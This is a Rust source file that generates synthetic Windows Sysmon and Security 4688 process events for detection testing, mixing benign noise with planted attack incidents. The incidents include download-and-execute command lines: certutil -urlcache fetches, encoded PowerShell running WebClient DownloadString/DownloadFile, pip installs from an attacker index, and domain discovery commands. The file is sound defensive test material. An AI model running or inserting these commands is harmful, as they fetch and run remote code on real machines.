//! Windows process events: Sysmon event XML and classic Security 4688 records.

use crate::time::Instant;
use crate::{schedule, Incident, Rng};

/// The account a process runs as.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Who {
    /// `NT AUTHORITY\SYSTEM` (in 4688, the machine account).
    System,
    /// A user of the stream's pool, picked at random.
    Any,
    /// This domain user, always.
    Fixed(&'static str),
}

/// A benign process start: `{u}` in the text stands for the user name.
struct Template {
    who: Who,
    image: &'static str,
    command_line: &'static str,
    parent_image: &'static str,
    parent_command_line: &'static str,
    cwd: &'static str,
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const CMD_LINE: &str = r#""C:\Windows\system32\cmd.exe" "#;
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const EXPLORER_LINE: &str = r"C:\Windows\Explorer.EXE";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const USER_DIR: &str = r"C:\Users\{u}\";

/// Benign process starts, several of them close to what the example rules look for.
const NOISE: &[Template] = &[
    Template {
        who: Who::System,
        image: SVCHOST,
        command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        parent_image: r"C:\Windows\System32\services.exe",
        parent_command_line: r"C:\Windows\system32\services.exe",
        cwd: r"C:\Windows\system32\",
    },
    Template {
        who: Who::System,
        image: r"C:\Windows\System32\taskhostw.exe",
        command_line: "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
        parent_image: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        cwd: r"C:\Windows\system32\",
    },
    Template {
        who: Who::System,
        image: r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        command_line: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        parent_image: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        cwd: r"C:\Windows\system32\",
    },
    Template {
        who: Who::System,
        image: POWERSHELL,
        command_line: r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\scripts\inventory.ps1",
        parent_image: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        cwd: r"C:\Windows\system32\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        command_line: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7"#,
        parent_image: r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        parent_command_line: r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
        cwd: r"C:\Program Files\Google\Chrome\Application\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        command_line: r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        parent_image: EXPLORER,
        parent_command_line: EXPLORER_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        command_line: r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{u}\Documents\Q1 budget.xlsx""#,
        parent_image: EXPLORER,
        parent_command_line: EXPLORER_LINE,
        cwd: r"C:\Users\{u}\Documents\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Windows\System32\notepad.exe",
        command_line: r#""C:\Windows\system32\notepad.exe" C:\Users\{u}\Documents\notes.txt"#,
        parent_image: EXPLORER,
        parent_command_line: EXPLORER_LINE,
        cwd: r"C:\Users\{u}\Documents\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Windows\System32\conhost.exe",
        command_line: r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\Git\cmd\git.exe",
        command_line: r#""C:\Program Files\Git\cmd\git.exe" pull --ff-only"#,
        parent_image: r"C:\Program Files\Microsoft VS Code\Code.exe",
        parent_command_line: r#""C:\Program Files\Microsoft VS Code\Code.exe""#,
        cwd: r"C:\Users\{u}\src\reporting\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Users\{u}\AppData\Local\Programs\Python\Python312\Scripts\pip.exe",
        command_line: "pip install requests==2.32.3",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: r"C:\Users\{u}\src\reporting\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Users\{u}\AppData\Local\Programs\Python\Python312\Scripts\pip.exe",
        command_line: "pip install -r requirements.txt",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: r"C:\Users\{u}\src\reporting\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Users\{u}\AppData\Local\Programs\Python\Python312\python.exe",
        command_line: "python -m pip install --index-url https://pypi.org/simple/ --upgrade pip",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\nodejs\node.exe",
        command_line: r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install"#,
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: r"C:\Users\{u}\src\portal\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Windows\System32\certutil.exe",
        command_line: r"certutil -hashfile C:\Users\{u}\Downloads\setup.msi SHA256",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: r"C:\Users\{u}\Downloads\",
    },
    Template {
        who: Who::Any,
        image: r"C:\Program Files\PowerShell\7\pwsh.exe",
        command_line: r#""C:\Program Files\PowerShell\7\pwsh.exe" -NoLogo -Command Get-Service WinRM"#,
        parent_image: EXPLORER,
        parent_command_line: EXPLORER_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Any,
        image: r"C:\Windows\System32\rundll32.exe",
        command_line: r"C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
        parent_image: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        cwd: r"C:\Windows\system32\",
    },
    // Lone discovery tools, each always run by the same user: routine on their own.
    Template {
        who: Who::Fixed("alice"),
        image: r"C:\Windows\System32\ipconfig.exe",
        command_line: "ipconfig /all",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Fixed("bob"),
        image: r"C:\Windows\System32\whoami.exe",
        command_line: "whoami",
        parent_image: CMD,
        parent_command_line: CMD_LINE,
        cwd: USER_DIR,
    },
    Template {
        who: Who::Fixed("carol"),
        image: r"C:\Windows\System32\net.exe",
        command_line: r"net use Z: \\fs01.corp.example\share /persistent:no",
        parent_image: CMD,
        parent_command_line: r"C:\Windows\system32\cmd.exe /c \\corp.example\NETLOGON\logon.bat",
        cwd: USER_DIR,
    },
];

/// One process start.
#[derive(Clone, Debug)]
pub(crate) struct Process {
    host: &'static str,
    /// The account name, without its domain; `None` for SYSTEM.
    user: Option<String>,
    image: String,
    command_line: String,
    parent_image: String,
    parent_command_line: String,
    cwd: String,
}

impl Process {
    fn planted(
        host: &'static str,
        user: &str,
        image: &str,
        command_line: &str,
        parent_image: &str,
        parent_command_line: &str,
    ) -> Process {
        Process {
            host,
            user: Some(user.to_owned()),
            image: image.replace("{u}", user),
            command_line: command_line.to_owned(),
            parent_image: parent_image.to_owned(),
            parent_command_line: parent_command_line.to_owned(),
            cwd: USER_DIR.replace("{u}", user),
        }
    }

    fn noise(rng: &mut Rng, hosts: &[&'static str], users: &[&'static str]) -> Process {
        let t = rng.pick(NOISE);
        let host = *rng.pick(hosts);
        let user = match t.who {
            Who::System => None,
            Who::Any => Some(*rng.pick(users)),
            Who::Fixed(u) => Some(u),
        };
        let fill = |s: &str| s.replace("{u}", user.unwrap_or("Default"));
        Process {
            host,
            user: user.map(str::to_owned),
            image: fill(t.image),
            command_line: fill(t.command_line),
            parent_image: fill(t.parent_image),
            parent_command_line: fill(t.parent_command_line),
            cwd: fill(t.cwd),
        }
    }

    /// Sysmon's `User`: `CORP\alice`, `NT AUTHORITY\SYSTEM`.
    fn domain_user(&self) -> String {
        match &self.user {
            Some(u) => format!(r"CORP\{u}"),
            None => r"NT AUTHORITY\SYSTEM".to_owned(),
        }
    }
}

const WORKSTATIONS: &[&str] = &[
    "WS01", "WS02", "WS03", "WS04", "WS05", "WS06", "WS07", "WS08",
];
const WORKSTATION_USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "ivan", "judy",
];
const SERVERS: &[&str] = &["SRV01", "SRV02", "SRV03", "SRV04"];
const SERVER_USERS: &[&str] = &["svc_sql", "svc_backup", "adm.mallory", "adm.oscar"];

/// A base64 `-EncodedCommand` argument: the script as UTF-16LE, base64.
fn encoded_command(script: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The discovery burst, run by `user` on `host` from a command prompt.
fn discovery_burst(host: &'static str, user: &str, commands: &[(&str, &str)]) -> Incident<Process> {
    Incident {
        events: commands
            .iter()
            .map(|(exe, line)| {
                Process::planted(
                    host,
                    user,
                    &format!(r"C:\Windows\System32\{exe}"),
                    line,
                    CMD,
                    CMD_LINE,
                )
            })
            .collect(),
        burst: true,
    }
}

fn one(process: Process) -> Incident<Process> {
    Incident {
        events: vec![process],
        burst: false,
    }
}

/// What a Sysmon stream holds.
enum SysmonEvent {
    /// Event 1.
    Process(Process),
    /// Event 3, an outbound connection of a browser or service.
    Network(Process),
}

pub(crate) fn sysmon(n: usize, seed: u64) -> Vec<String> {
    let mut rng = Rng::new(seed ^ 0x5953_4D4F_4E00);
    let download = encoded_command(
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
    );
    let incidents = vec![
        one(Process::planted(
            "WS02",
            "dave",
            r"C:\Users\{u}\AppData\Local\Programs\Python\Python312\Scripts\pip.exe",
            "pip install --extra-index-url https://pypi.attacker.example/simple corp-auth-utils",
            CMD,
            CMD_LINE,
        )),
        one(Process::planted(
            "WS04",
            "frank",
            r"C:\Windows\System32\certutil.exe",
            r"certutil.exe -urlcache -split -f http://198.51.100.23/invoice.txt C:\Users\Public\invoice.exe",
            CMD,
            r"C:\Windows\system32\cmd.exe /c C:\Users\frank\AppData\Local\Temp\run.bat",
        )),
        discovery_burst(
            "WS03",
            "heidi",
            &[
                ("whoami.exe", "whoami /all"),
                ("net.exe", "net user /domain"),
                ("net.exe", r#"net group "domain admins" /domain"#),
                ("nltest.exe", "nltest /dclist:corp.example"),
                ("systeminfo.exe", "systeminfo"),
            ],
        ),
        one(Process::planted(
            "WS06",
            "grace",
            POWERSHELL,
            &format!(r#""{POWERSHELL}" -nop -w hidden -enc {download}"#),
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\grace\Downloads\invoice.docm""#,
        )),
        one(Process::planted(
            "WS05",
            "erin",
            r"C:\Users\{u}\AppData\Local\Programs\Python\Python312\python.exe",
            "python -m pip install --index-url http://10.13.37.5:8080/simple/ corp-data-sdk",
            CMD,
            CMD_LINE,
        )),
    ];
    let incidents = incidents
        .into_iter()
        .map(|i| Incident {
            events: i.events.into_iter().map(SysmonEvent::Process).collect(),
            burst: i.burst,
        })
        .collect();
    let events = schedule(n, &mut rng, incidents, |rng| {
        let process = Process::noise(rng, WORKSTATIONS, WORKSTATION_USERS);
        if rng.below(8) == 0 {
            SysmonEvent::Network(process)
        } else {
            SysmonEvent::Process(process)
        }
    });
    events
        .into_iter()
        .enumerate()
        .map(|(i, (time, event))| {
            let record = 210_000 + i as u64;
            match event {
                SysmonEvent::Process(p) => sysmon_process(&mut rng, time, record, &p),
                SysmonEvent::Network(p) => sysmon_network(&mut rng, time, record, &p),
            }
        })
        .collect()
}

/// Escape text for an XML attribute or element, as Windows renders event XML.
fn xml_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            _ => out.push(c),
        }
    }
    out
}

fn sysmon_system(event_id: u32, time: Instant, record: u64, host: &str, thread: u64) -> String {
    format!(
        "<System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/>\
         <EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task>\
         <Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>\
         <TimeCreated SystemTime='{}'/><EventRecordID>{record}</EventRecordID><Correlation/>\
         <Execution ProcessID='3164' ThreadID='{thread}'/>\
         <Channel>Microsoft-Windows-Sysmon/Operational</Channel>\
         <Computer>{host}.corp.example</Computer><Security UserID='S-1-5-18'/></System>",
        time.system_time()
    )
}

/// A stable fake hash of a file path, 32 hex digits.
fn path_hash(path: &str) -> String {
    let mut a: u64 = 0xCBF2_9CE4_8422_2325;
    let mut b: u64 = 0x8422_2325_CBF2_9CE4;
    for byte in path.to_ascii_lowercase().bytes() {
        a = (a ^ u64::from(byte)).wrapping_mul(0x0100_0000_01B3);
        b = (b ^ u64::from(byte)).wrapping_mul(0x0000_0100_0000_01B3 ^ 0x1000);
    }
    format!("{a:016X}{b:016X}")
}

fn data(out: &mut String, name: &str, value: &str) {
    out.push_str("<Data Name='");
    out.push_str(name);
    out.push_str("'>");
    out.push_str(&xml_escape(value));
    out.push_str("</Data>");
}

fn sysmon_process(rng: &mut Rng, time: Instant, record: u64, p: &Process) -> String {
    let thread = rng.range(1000, 9999);
    let mut out = String::with_capacity(1400);
    out.push_str("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>");
    out.push_str(&sysmon_system(1, time, record, p.host, thread));
    out.push_str("<EventData>");
    data(&mut out, "RuleName", "-");
    data(&mut out, "UtcTime", &time.utc_time());
    data(&mut out, "ProcessGuid", &rng.guid());
    data(&mut out, "ProcessId", &rng.range(1000, 30000).to_string());
    data(&mut out, "Image", &p.image);
    data(&mut out, "CommandLine", &p.command_line);
    data(&mut out, "CurrentDirectory", &p.cwd);
    data(&mut out, "User", &p.domain_user());
    data(
        &mut out,
        "LogonId",
        &format!("0x{:X}", rng.range(0x10000, 0xFFFFFF)),
    );
    let integrity = if p.user.is_some() { "Medium" } else { "System" };
    data(&mut out, "IntegrityLevel", integrity);
    data(&mut out, "Hashes", &format!("MD5={}", path_hash(&p.image)));
    data(&mut out, "ParentProcessGuid", &rng.guid());
    data(
        &mut out,
        "ParentProcessId",
        &rng.range(500, 30000).to_string(),
    );
    data(&mut out, "ParentImage", &p.parent_image);
    data(&mut out, "ParentCommandLine", &p.parent_command_line);
    data(&mut out, "ParentUser", &p.domain_user());
    out.push_str("</EventData></Event>");
    out
}

fn sysmon_network(rng: &mut Rng, time: Instant, record: u64, p: &Process) -> String {
    const DESTINATIONS: &[(&str, &str)] = &[
        ("142.250.74.110", "www.google.com"),
        ("52.97.146.162", "outlook.office365.com"),
        ("140.82.121.4", "github.com"),
        ("13.107.42.14", "login.microsoftonline.com"),
    ];
    let (ip, name) = *rng.pick(DESTINATIONS);
    let thread = rng.range(1000, 9999);
    let mut out = String::with_capacity(1200);
    out.push_str("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>");
    out.push_str(&sysmon_system(3, time, record, p.host, thread));
    out.push_str("<EventData>");
    data(&mut out, "RuleName", "-");
    data(&mut out, "UtcTime", &time.utc_time());
    data(&mut out, "ProcessGuid", &rng.guid());
    data(&mut out, "ProcessId", &rng.range(1000, 30000).to_string());
    data(&mut out, "Image", &p.image);
    data(&mut out, "User", &p.domain_user());
    data(&mut out, "Protocol", "tcp");
    data(&mut out, "Initiated", "true");
    let last = rng.range(10, 250);
    data(&mut out, "SourceIp", &format!("10.20.1.{last}"));
    data(&mut out, "SourcePort", &rng.range(49152, 65535).to_string());
    data(&mut out, "DestinationIp", ip);
    data(&mut out, "DestinationHostname", name);
    data(&mut out, "DestinationPort", "443");
    out.push_str("</EventData></Event>");
    out
}

pub(crate) fn security(n: usize, seed: u64) -> Vec<String> {
    let mut rng = Rng::new(seed ^ 0x3436_3838_0000);
    let download = encoded_command(
        "$c=New-Object Net.WebClient;$c.DownloadFile('http://203.0.113.7/s.exe','C:\\ProgramData\\s.exe');Start-Process C:\\ProgramData\\s.exe",
    );
    let incidents = vec![
        one(Process::planted(
            "SRV01",
            "svc_sql",
            r"C:\Windows\System32\certutil.exe",
            r"certutil.exe -urlcache -f http://203.0.113.7/update.bin C:\ProgramData\update.exe",
            CMD,
            r#"C:\Windows\system32\cmd.exe /c "certutil.exe -urlcache -f http://203.0.113.7/update.bin C:\ProgramData\update.exe""#,
        )),
        discovery_burst(
            "SRV02",
            "svc_web",
            &[
                ("whoami.exe", "whoami /groups"),
                ("net.exe", "net user administrator /domain"),
                ("nltest.exe", "nltest /domain_trusts"),
                ("systeminfo.exe", "systeminfo"),
            ],
        ),
        one(Process::planted(
            "SRV04",
            "adm.oscar",
            POWERSHELL,
            &format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {download}"),
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        )),
    ];
    let events = schedule(n, &mut rng, incidents, |rng| {
        Process::noise(rng, SERVERS, SERVER_USERS)
    });
    events
        .into_iter()
        .enumerate()
        .map(|(i, (time, p))| security_4688(&mut rng, time, 480_000 + i as u64, &p))
        .collect()
}

/// A numeric SID for an account name, stable across runs.
fn sid(user: &str) -> String {
    let rid = 1100 + user.bytes().map(u64::from).sum::<u64>() % 900;
    format!("S-1-5-21-3623811015-3361044348-30300820-{rid}")
}

fn security_4688(rng: &mut Rng, time: Instant, record: u64, p: &Process) -> String {
    let (sid, account, logon) = match &p.user {
        Some(u) => (
            sid(u),
            u.clone(),
            format!("0x{:X}", rng.range(0x10000, 0xFFFFFF)),
        ),
        None => (
            "S-1-5-18".to_owned(),
            format!("{}$", p.host),
            "0x3E7".to_owned(),
        ),
    };
    let (elevation, label) = if p.user.is_some() {
        ("%%1938", r"Mandatory Label\Medium Mandatory Level")
    } else {
        ("%%1936", r"Mandatory Label\System Mandatory Level")
    };
    let lines = [
        time.us_header(),
        "LogName=Security".to_owned(),
        "EventCode=4688".to_owned(),
        "EventType=0".to_owned(),
        format!("ComputerName={}.corp.example", p.host),
        "SourceName=Microsoft Windows security auditing.".to_owned(),
        "Type=Information".to_owned(),
        format!("RecordNumber={record}"),
        "Keywords=Audit Success".to_owned(),
        "TaskCategory=Process Creation".to_owned(),
        "OpCode=Info".to_owned(),
        "Message=A new process has been created.".to_owned(),
        String::new(),
        "Creator Subject:".to_owned(),
        format!("\tSecurity ID:\t\t{sid}"),
        format!("\tAccount Name:\t\t{account}"),
        "\tAccount Domain:\t\tCORP".to_owned(),
        format!("\tLogon ID:\t\t{logon}"),
        String::new(),
        "Target Subject:".to_owned(),
        "\tSecurity ID:\t\tS-1-0-0".to_owned(),
        "\tAccount Name:\t\t-".to_owned(),
        "\tAccount Domain:\t\t-".to_owned(),
        "\tLogon ID:\t\t0x0".to_owned(),
        String::new(),
        "Process Information:".to_owned(),
        format!("\tNew Process ID:\t\t0x{:x}", rng.range(0x400, 0x7FFF)),
        format!("\tNew Process Name:\t{}", p.image),
        format!("\tToken Elevation Type:\t{elevation}"),
        format!("\tMandatory Label:\t\t{label}"),
        format!("\tCreator Process ID:\t0x{:x}", rng.range(0x400, 0x7FFF)),
        format!("\tCreator Process Name:\t{}", p.parent_image),
        format!("\tProcess Command Line:\t{}", p.command_line),
    ];
    lines.join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_of_utf16() {
        // "ab" → 61 00 62 00; "a" → 61 00.
        assert_eq!(encoded_command("ab"), "YQBiAA==");
        assert_eq!(encoded_command("a"), "YQA=");
        assert_eq!(encoded_command("abc"), "YQBiAGMA");
    }

    #[test]
    fn xml_text_is_escaped() {
        assert_eq!(
            xml_escape(r#"a "b" <c> & 'd'"#),
            "a &quot;b&quot; &lt;c&gt; &amp; &apos;d&apos;"
        );
    }
}
